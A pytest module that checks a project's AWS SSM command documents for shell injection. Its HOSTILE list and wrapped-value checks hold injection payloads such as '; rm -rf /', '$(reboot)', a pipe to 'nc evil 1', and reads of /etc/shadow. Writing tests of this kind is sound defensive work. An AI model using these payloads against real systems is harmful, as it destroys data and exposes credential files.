"""The SSM documents (infra/ssm_documents/*.json): every parameter is pattern-checked, hostile values
never match, what the controller sends does, and the command lines parse as our agent CLI."""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path
from typing import Any

import pytest
from cachewarm.node_agent.cli import agent_group

from tests.infra.support import documents_dir

DOCS = sorted(documents_dir().glob("*.json"))
HOSTILE = [
    "; rm -rf /",
    "x; rm -rf /",
    "$(reboot)",
    "x$(reboot)",
    "${IFS}",
    "`id`",
    "x`id`",
    "x\nrm -rf /",
    "\nrm -rf /",
    "x'; rm -rf / #",
    "x' '",
    'x"; rm -rf / #',
    "x && reboot",
    "x || reboot",
    "x | nc evil 1",
    "x > /etc/passwd",
    "x < /etc/shadow",
    "x\\",
    "x\trm",
    "x\x00",
    "{{ other }}",
    "",
]
# What the controller sends (lambdas/cachewarm_controller) — each must pass its pattern.
VALID = {
    "warmId": "warm-2026-11-22",
    "nodeId": "i-0123456789abcdef0",
    "device": "/dev/disk/by-id/nvme-Amazon_Elastic_Block_Store_vol0123456789abcdef0",
    "mount": "/mnt/cachewarm",
    "statusBucket": "cachewarm-status-123456789012",
    "statusPrefix": "warms",
    "maxItemsPerSecond": "250000",
    "executionTimeout": "172800",
    "memcached": "127.0.0.1:11211",
    "threads": "4",
    "to": "10.0.0.1:11211,ip-10-0-0-2.ec2.internal:11211",
    "mode": "add",
    "dumperTarballUrl": "s3://cdk-hnb659fds-assets-123456789012-us-east-1/" + "ab" * 32 + ".gz",
    "agentBundleUrl": "s3://cdk-hnb659fds-assets-123456789012-us-east-1/" + "cd" * 32 + ".gz",
    "installScriptUrl": "s3://cdk-hnb659fds-assets-123456789012-us-east-1/" + "ef" * 32 + ".sh",
    "dumperTarballSha256": "ab" * 32,
    "agentBundleSha256": "cd" * 32,
    "installScriptSha256": "ef" * 32,
    "agentVersion": "0.1.0",
    "source": "10.0.1.17:11211",
    "sampleKeys": "10000",
    "port": "11211",
}
AGENT_LINE = re.compile(r"\bcachewarm agent (dump|populate|verify)\b")
# The documents that run the agent (the others run fixed scripts: install, unmount, stats).
AGENT_DOCS = [
    p
    for p in DOCS
    if any(
        AGENT_LINE.search(ln)
        for st in json.loads(p.read_text())["mainSteps"]
        for ln in st["inputs"]["runCommand"]
    )
]


def load(path: Path) -> dict[str, Any]:
    return json.loads(path.read_text())


def params(path: Path) -> list[tuple[str, dict[str, Any]]]:
    return list(load(path).get("parameters", {}).items())


def test_documents_exist() -> None:
    assert {p.stem for p in DOCS} >= {
        "dump-agent",
        "populate-agent",
        "verify-agent",
        "install-agent",
        "unmount",
        "memcached-stats",
    }
    assert {p.stem for p in AGENT_DOCS} == {"dump-agent", "populate-agent", "verify-agent"}


@pytest.mark.parametrize("path", AGENT_DOCS, ids=lambda p: p.stem)
def test_agent_documents_check_the_agents_version_before_starting_it(path: Path) -> None:
    """Not installed: exit 127; another version than the stack's: exit 126 (the controller fails the
    node at once for either: a revive cannot help)."""
    script = "\n".join(ln for st in load(path)["mainSteps"] for ln in st["inputs"]["runCommand"])
    assert "exit 127" in script and "exit 126" in script and "cachewarm --version" in script
    assert script.index("exit 126") < script.index("exec cachewarm agent")
    assert "agentVersion" in dict(params(path))


def test_unmount_never_unmounts_lazily() -> None:
    """The device is detached right after: a lazy unmount would leave the file system open."""
    [doc] = [p for p in DOCS if p.stem == "unmount"]
    script = "\n".join(ln for st in load(doc)["mainSteps"] for ln in st["inputs"]["runCommand"])
    assert "umount -l" not in script and 'umount "$M"' in script


@pytest.mark.parametrize("path", DOCS, ids=lambda p: p.stem)
def test_every_parameter_has_an_anchored_pattern(path: Path) -> None:
    doc = load(path)
    assert doc["schemaVersion"] == "2.2"
    assert all(s["action"] == "aws:runShellScript" for s in doc["mainSteps"])
    for name, spec in params(path):
        pattern = spec.get("allowedPattern")
        assert pattern, f"{path.name}: {name} has no allowedPattern"
        assert pattern.startswith("^") and pattern.endswith("$"), (
            f"{path.name}: {name} pattern is not anchored"
        )
        re.compile(pattern)


@pytest.mark.parametrize("path", DOCS, ids=lambda p: p.stem)
def test_hostile_values_never_match(path: Path) -> None:
    for name, spec in params(path):
        rx = re.compile(spec["allowedPattern"])
        for bad in HOSTILE:
            # search(), not fullmatch(): SSM must not accept a value in which the pattern merely occurs.
            assert not rx.search(bad), f"{path.name}: {name} accepts {bad!r}"
        # A valid value with shell metacharacters around it is still refused.
        if name in VALID:
            for wrapped in (f"{VALID[name]}; rm -rf /", f"$({VALID[name]})", f"{VALID[name]}\nreboot"):
                assert not rx.search(wrapped), f"{path.name}: {name} accepts {wrapped!r}"


@pytest.mark.parametrize("path", DOCS, ids=lambda p: p.stem)
def test_valid_values_and_defaults_match(path: Path) -> None:
    for name, spec in params(path):
        rx = re.compile(spec["allowedPattern"])
        if "default" in spec:
            assert rx.search(spec["default"]), (
                f"{path.name}: {name} default {spec['default']!r} fails its pattern"
            )
        if name in VALID:
            assert rx.search(VALID[name]), f"{path.name}: {name} refuses {VALID[name]!r}"


@pytest.mark.parametrize("path", DOCS, ids=lambda p: p.stem)
def test_commands_use_only_declared_parameters_inside_single_quotes(path: Path) -> None:
    declared = {n for n, _ in params(path)}
    for step in load(path)["mainSteps"]:
        for line in step["inputs"]["runCommand"]:
            for m in re.finditer(r"\{\{\s*(\w+)\s*\}\}", line):
                assert m.group(1) in declared, f"{path.name}: undeclared {{{{{m.group(1)}}}}}"
        for m in re.finditer(r"(.)\{\{\s*(\w+)\s*\}\}(.)", " ".join(step["inputs"]["runCommand"])):
            assert (m.group(1), m.group(3)) == ("'", "'"), (
                f"{path.name}: {{{{{m.group(2)}}}}} not single-quoted"
            )


def agent_argv(path: Path) -> list[str]:
    """The `cachewarm agent …` command line of a document, with valid values filled in."""
    [line] = [
        ln for step in load(path)["mainSteps"] for ln in step["inputs"]["runCommand"] if AGENT_LINE.search(ln)
    ]
    line = line[AGENT_LINE.search(line).start() :]  # type: ignore[union-attr]
    # The volume path: --device as the controller sends it (DEV is empty only for device=none, S3).
    line = line.replace('"${DEV[@]}"', "--device '{{ device }}'")
    # The re-check's source as the controller sends it (SRC is --accept-no-recheck only for none).
    line = line.replace('"${SRC[@]}"', "--source 10.0.1.7:11211")
    values = {n: VALID.get(n, s.get("default", "")) for n, s in params(path)}
    line = re.sub(r"\{\{\s*(\w+)\s*\}\}", lambda m: values[m.group(1)], line)
    argv = [a for a in shlex.split(line) if a not in ("${RATE[@]}", "${BRATE[@]}", "${S3[@]}")]
    assert argv[:2] == ["cachewarm", "agent"]
    return argv[2:]


@pytest.mark.parametrize("path", AGENT_DOCS, ids=lambda p: p.stem)
def test_document_command_parses_as_the_agent_cli(path: Path) -> None:
    argv = agent_argv(path)
    cmd = agent_group.commands[argv[0]]
    ctx = cmd.make_context(argv[0], argv[1:])  # raises click.UsageError on an unknown flag or bad value
    assert ctx.params["warm_id"] == VALID["warmId"]
    if argv[0] != "verify":
        assert ctx.params["device"] == VALID["device"]
